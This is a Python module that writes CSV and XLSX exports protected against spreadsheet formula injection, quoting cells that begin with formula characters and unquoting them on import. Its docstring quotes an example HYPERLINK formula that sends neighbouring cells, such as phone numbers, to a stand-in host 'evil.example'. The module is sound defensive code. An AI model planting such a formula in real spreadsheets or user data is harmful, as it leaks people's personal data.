"""Writing exports (CSV and XLSX) that a spreadsheet program opens safely.

A cell starting with ``= + - @`` (or a tab or carriage return, which some
programs skip before looking for one of those) is taken as a formula by Excel
and LibreOffice: a member's question or Telegram name like
``=HYPERLINK("http://evil.example/?x="&B2, "点我")`` would run in the clerk's
spreadsheet and could send the neighbouring cells (phone numbers) away. Every
export goes through :func:`write_table`, which prefixes such text with a single
quote (OWASP's advice; spreadsheet programs show it as text). Importing a file
strips that quote again (:func:`unneutralise`), so an export can be re-imported.
"""
from __future__ import annotations

import csv
from pathlib import Path
from typing import Iterable, Sequence

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """``value`` safe for a spreadsheet cell: text that would start a formula gets a leading quote."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def unneutralise(value):
    """Undo :func:`neutralise` on a cell read back from an export."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_START):
        return value[1:]
    return value


def write_table(path: Path | str, rows: Iterable[Sequence], *, sheet: str = "data",
                text_columns: Sequence[int] = ()) -> int:
    """Write rows (the first one is the header) to CSV (UTF-8 with BOM, for Excel) or XLSX by suffix.

    ``text_columns`` (0-based, XLSX only) are formatted as text so that phone numbers stay
    numbers-as-typed. Returns the number of rows after the header.
    """
    from app.private_files import private_output

    path = private_output(path)      # 0600 from the start: exports carry names, questions, maybe phones
    n = -1
    if path.suffix.lower() == ".xlsx":
        from openpyxl import Workbook

        workbook = Workbook()
        ws = workbook.active
        ws.title = sheet
        for row in rows:
            ws.append([neutralise(v) for v in row])
            n += 1
        for column in text_columns:
            for cell in next(ws.iter_cols(min_col=column + 1, max_col=column + 1)):
                cell.number_format = "@"
        workbook.save(path)
    else:
        with open(path, "w", encoding="utf-8-sig", newline="") as fh:
            writer = csv.writer(fh)
            for row in rows:
                writer.writerow([neutralise(v) for v in row])
                n += 1
    return max(n, 0)


__all__ = ["neutralise", "unneutralise", "write_table", "FORMULA_START"]
